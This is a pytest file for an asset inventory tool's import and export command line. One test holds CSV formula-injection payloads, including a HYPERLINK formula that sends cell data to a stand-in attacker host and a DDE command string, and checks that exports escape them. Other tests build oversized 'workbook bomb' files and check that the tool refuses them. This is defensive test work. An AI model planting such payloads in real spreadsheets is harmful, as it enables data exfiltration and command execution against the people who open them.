"""python -m db import-assets and export, through a subprocess on SQLite."""

import csv
import io
import uuid

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import sessionmaker

from core.flows.child_flow_service import CollectionChildFlowService
from core.flows.orchestrator import MasterFlowOrchestrator
from core.kernel.context import RequestContext
from db.migrate import upgrade
from db.models import Asset, ClientAccount, Engagement
from db.session import create_db_engine
from tests.core.inventory_files import servicenow_csv
from tests.core.workbook_bombs import huge_inline_cell, inventory_rows, sheet, write_xlsx
from tests.db.cli import run_cli
from tests.measured import run_measured


@pytest.fixture
def sqlite_file(tmp_path):
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    upgrade(url)
    engine = create_db_engine(url)
    make_session = sessionmaker(engine, expire_on_commit=False)
    with make_session() as db:
        client = ClientAccount(name="Acme Corp")
        db.add(client)
        db.flush()
        engagement = Engagement(client_account_id=client.id, name="Wave 1")
        db.add(engagement)
        db.commit()
        ctx = RequestContext(client.id, engagement.id)  # the operator, as the command line acts
    yield url, make_session, ctx
    engine.dispose()


def count_assets(make_session) -> int:
    with make_session() as db:
        return db.scalar(select(func.count()).select_from(Asset))


def test_import_then_export_then_reimport_through_the_command_line(sqlite_file, tmp_path):
    url, make_session, ctx = sqlite_file
    inventory = tmp_path / "cmdb.csv"
    inventory.write_bytes(servicenow_csv(12))

    first = run_cli(
        "import-assets", str(inventory), "--client", "Acme Corp", "--engagement", "Wave 1",
        database_url=url,
    )  # fmt: skip
    assert first.returncode == 0, first.stderr
    assert "rows 12: created 12, updated 0, unchanged 0, skipped 0" in first.stdout

    with make_session() as db:
        asset_ids = [str(asset_id) for asset_id in db.scalars(select(Asset.id))]
        flow_id = MasterFlowOrchestrator(db, ctx).create_flow(flow_name="CLI flow")
        CollectionChildFlowService(db, ctx).execute_phase(
            flow_id, "asset_selection", {"selected_asset_ids": asset_ids}
        )
    exported = tmp_path / "assets.xlsx"
    export = run_cli(
        "export", flow_id, "--what", "assets", "--format", "xlsx", "--out", str(exported),
        "--client", str(ctx.client_account_id), "--engagement", str(ctx.engagement_id),
        database_url=url,
    )  # fmt: skip
    assert export.returncode == 0, export.stderr
    assert exported.read_bytes()[:2] == b"PK"

    again = run_cli(
        "import-assets", str(exported), "--client", "Acme Corp", "--engagement", "Wave 1",
        database_url=url,
    )  # fmt: skip
    assert again.returncode == 0, again.stderr
    assert "created 0, updated 0, unchanged 12, skipped 0" in again.stdout

    gaps = run_cli(
        "export", flow_id, "--what", "gaps", "--out", "-",
        "--client", "Acme Corp", "--engagement", "Wave 1", database_url=url,
    )  # fmt: skip
    assert gaps.returncode == 0, gaps.stderr
    assert next(csv.reader(io.StringIO(gaps.stdout.lstrip("\ufeff"))))[:3] == [
        "Asset", "Field", "Gap type",
    ]  # fmt: skip


def test_a_rejected_file_exits_1_and_writes_nothing(sqlite_file, tmp_path):
    url, make_session, _ctx = sqlite_file
    bad = tmp_path / "no_name.csv"
    bad.write_text("os,cores\nLinux,4\n")
    result = run_cli(
        "import-assets", str(bad), "--client", "Acme Corp", "--engagement", "Wave 1",
        database_url=url,
    )  # fmt: skip
    assert result.returncode == 1
    assert "no name column" in result.stderr
    assert count_assets(make_session) == 0


def test_skipped_rows_are_listed_and_an_unknown_engagement_is_an_error(sqlite_file, tmp_path):
    url, _make_session, _ctx = sqlite_file
    mixed = tmp_path / "mixed.csv"
    mixed.write_text("hostname,vcpu\na,2\nb,lots\n")
    result = run_cli(
        "import-assets", str(mixed), "--client", "Acme Corp", "--engagement", "Wave 1",
        database_url=url,
    )  # fmt: skip
    assert result.returncode == 0
    assert "created 1" in result.stdout and "row 3: vcpu: 'lots' is not a number" in result.stdout

    unknown = run_cli(
        "import-assets", str(mixed), "--client", "Acme Corp", "--engagement", "Wave 9",
        database_url=url,
    )  # fmt: skip
    assert unknown.returncode == 1 and "no engagement 'Wave 9'" in unknown.stderr


def test_exports_from_the_command_line_write_formula_like_text_as_text(sqlite_file, tmp_path):
    url, make_session, ctx = sqlite_file
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1)"]
    inventory = tmp_path / "hostile.csv"
    with inventory.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["name", "os", "owner", "cores"])
        writer.writerows([name, "Linux", "-2+3", 4] for name in formulas)
    tenant = ("--client", "Acme Corp", "--engagement", "Wave 1")
    imported = run_cli("import-assets", str(inventory), *tenant, database_url=url)
    assert imported.returncode == 0, imported.stderr
    with make_session() as db:
        asset_ids = [str(asset_id) for asset_id in db.scalars(select(Asset.id))]
        flow_id = MasterFlowOrchestrator(db, ctx).create_flow(flow_name="Hostile")
        service = CollectionChildFlowService(db, ctx)
        service.execute_phase(flow_id, "asset_selection", {"selected_asset_ids": asset_ids})
        service.execute_phase(flow_id, "gap_analysis")

    exported = tmp_path / "assets.csv"
    assets = run_cli(
        "export", flow_id, "--what", "assets", "--out", str(exported), *tenant, database_url=url
    )
    gaps = run_cli("export", flow_id, "--what", "gaps", "--out", "-", *tenant, database_url=url)

    assert assets.returncode == 0 and gaps.returncode == 0, assets.stderr + gaps.stderr
    asset_rows = list(csv.DictReader(io.StringIO(exported.read_text("utf-8-sig"), newline="")))
    marked = sorted("'" + name for name in formulas)
    assert sorted(row["Name"] for row in asset_rows) == marked
    assert {(row["Business owner"], row["CPU cores"]) for row in asset_rows} == {("'-2+3", "4")}
    gap_rows = list(csv.DictReader(io.StringIO(gaps.stdout.lstrip("\ufeff"), newline="")))
    assert gap_rows and {row["Asset"] for row in gap_rows} == set(marked)
    again = run_cli("import-assets", str(exported), *tenant, database_url=url)
    assert "created 0, updated 0, unchanged 3, skipped 0" in again.stdout, again.stderr


MB = 2**20


@pytest.mark.parametrize(
    ("bomb", "env", "message"),
    [
        ("cell", {}, "sheet 'Inventory' unpacks to more than 256 MB"),
        ("rows", {"IMPORT_MAX_ROWS": "1000"}, "the file holds more than 1,000 rows"),
        ("size", {"IMPORT_MAX_FILE_BYTES": "100000"}, "at most 0.1 MB can be imported at once"),
    ],
)
def test_a_workbook_bomb_is_refused_quickly_in_little_memory(
    sqlite_file, tmp_path, bomb, env, message
):
    url, make_session, _ctx = sqlite_file
    path = tmp_path / f"{bomb}.xlsx"
    if bomb == "rows":
        write_xlsx(path, sheet(inventory_rows(300_000)))
    else:
        write_xlsx(path, huge_inline_cell(400 * MB, varied=False))
    measured = run_measured(
        ["-m", "db", "import-assets", str(path), "--client", "Acme Corp", "--engagement", "Wave 1"],
        env={"DATABASE_URL": url, **env},
        timeout=240,
    )
    print(
        f"import-assets {bomb}: {path.stat().st_size / MB:.1f} MB on disk, exit"
        f" {measured.returncode}, peak RSS {measured.peak_rss_mb:.0f} MB, {measured.seconds:.1f} s"
    )
    assert measured.returncode == 1, measured.stderr[-2000:]
    assert message in measured.stderr
    assert measured.peak_rss_mb < 300
    assert count_assets(make_session) == 0


def test_rows_of_a_mixed_encoding_file_are_listed_as_read_as_windows_1252(sqlite_file, tmp_path):
    url, make_session, _ctx = sqlite_file
    mixed = tmp_path / "mixed.csv"
    mixed.write_bytes(
        b"hostname,location\n" + "a,München\n".encode() + "b,Müller\n".encode("cp1252")
    )
    result = run_cli(
        "import-assets", str(mixed), "--client", "Acme Corp", "--engagement", "Wave 1",
        database_url=url,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "created 2" in result.stdout
    assert "1 row(s) imported with a note:\n  row 3: not valid UTF-8, read as Windows-1252" in (
        result.stdout
    )
    with make_session() as db:
        stored = db.scalars(select(Asset.custom_attributes))
        assert sorted(attributes["location"] for attributes in stored) == ["Müller", "München"]


def test_import_with_a_key_column_and_the_profile_named(sqlite_file, tmp_path):
    url, make_session, _ctx = sqlite_file
    inventory = tmp_path / "snipe.csv"
    inventory.write_text(
        "Asset Tag,Name,Category\r\nA-1,Latitude,Laptops\r\nA-2,Latitude,Laptops\r\n",
        encoding="utf-8",
    )
    common = ("--client", "Acme Corp", "--engagement", "Wave 1")
    plain = run_cli("import-assets", str(inventory), *common, database_url=url)
    assert plain.returncode == 0, plain.stderr
    assert "read as plain sheet" in plain.stdout
    assert "row 3: duplicate name 'Latitude' (first on row 2)" in plain.stdout
    keyed = run_cli(
        "import-assets", str(inventory), *common, "--key", "Asset Tag", database_url=url
    )
    assert keyed.returncode == 0, keyed.stderr
    assert "created 2, updated 0, unchanged 0, skipped 0" in keyed.stdout
    assert count_assets(make_session) == 3  # "Latitude" of the first import, then both keyed
    missing = run_cli("import-assets", str(inventory), *common, "--key", "UUID", database_url=url)
    assert missing.returncode == 1 and "no column 'UUID'" in missing.stderr


def test_a_refused_export_leaves_the_file_it_would_replace_as_it_was(sqlite_file, tmp_path):
    url, _make_session, ctx = sqlite_file
    out = tmp_path / "gaps.csv"
    out.write_bytes(b"kept")
    refused = run_cli(
        "export", str(uuid.uuid4()), "--what", "gaps", "--out", str(out),
        "--client", str(ctx.client_account_id), "--engagement", str(ctx.engagement_id),
        database_url=url,
    )  # fmt: skip
    assert refused.returncode == 1 and "not found" in refused.stderr.lower()
    assert out.read_bytes() == b"kept"
    assert not list(tmp_path.glob("gaps.csv.*"))


def test_import_names_the_servers_sheet_and_takes_another_by_name(sqlite_file, tmp_path):
    from tests.core.inventory.assessment_workbooks import core_report

    url, make_session, _ctx = sqlite_file
    report = tmp_path / "AzureMigrate_Assessment_Core_Report.xlsx"
    report.write_bytes(core_report(vms=12, sql_instances=6))
    tenant = ("--client", "Acme Corp", "--engagement", "Wave 1")

    servers = run_cli("import-assets", str(report), *tenant, database_url=url)
    assert servers.returncode == 0, servers.stderr
    assert "read as Azure Migrate Export report" in servers.stdout
    assert (
        "servers read from sheet 'All_VM_IaaS_Server_Rehost_Perf': the sheet its tool writes"
        " the servers on" in servers.stdout
    )
    assert "rows 12: created 12" in servers.stdout

    named = run_cli(
        "import-assets", str(report), "--sheet", "SQL_All_Instances", *tenant, database_url=url
    )
    assert named.returncode == 0, named.stderr
    assert "servers read from sheet 'SQL_All_Instances': chosen" in named.stdout
    assert "rows 6: created 6" in named.stdout
    assert count_assets(make_session) == 18


def test_import_takes_columns_by_map_and_a_saved_mapping_by_name(sqlite_file, tmp_path):
    from core.inventory.mapping_choices import MappingChoices
    from core.inventory.saved_mappings import save_mapping
    from tests.factories import in_uow

    url, make_session, ctx = sqlite_file
    inventory = tmp_path / "servers.csv"
    inventory.write_text("Hostname,PRDorHML,Cost centre\r\nweb-01,PRD,CC-7\r\nweb-02,HML,CC-8\r\n")
    tenant = ("--client", "Acme Corp", "--engagement", "Wave 1")

    mapped = run_cli(
        "import-assets", str(inventory), "--map", "PRDorHML=environment",
        "--map", "Cost centre=custom_attributes.cost_center", *tenant, database_url=url,
    )  # fmt: skip
    assert mapped.returncode == 0, mapped.stderr
    with make_session() as db:
        web = db.scalars(select(Asset).where(Asset.name == "web-01")).one()
        assert (web.environment, web.custom_attributes["cost_center"]) == ("PRD", "CC-7")
        admin = RequestContext(ctx.client_account_id, ctx.engagement_id, role="admin")
        choices = MappingChoices.parse(
            {"PRDorHML": "environment"},
            values={"PRDorHML": {"PRD": "production", "HML": "staging"}},
        )
        in_uow(db, admin, save_mapping, "Team sheet", choices)
        db.commit()

    saved = run_cli(
        "import-assets", str(inventory), "--mapping", "Team sheet", *tenant, database_url=url
    )
    assert saved.returncode == 0, saved.stderr
    assert "rows 2: created 0, updated 2" in saved.stdout
    with make_session() as db:
        assert sorted(db.scalars(select(Asset.environment))) == ["production", "staging"]

    wrong = run_cli("import-assets", str(inventory), "--map", "PRDorHML", *tenant, database_url=url)
    assert wrong.returncode == 1
    assert "--map 'PRDorHML': write it COLUMN=ATTRIBUTE" in wrong.stderr
    unknown = run_cli(
        "import-assets", str(inventory), "--mapping", "Nope", *tenant, database_url=url
    )
    assert unknown.returncode == 1 and "no saved mapping 'Nope'" in unknown.stderr
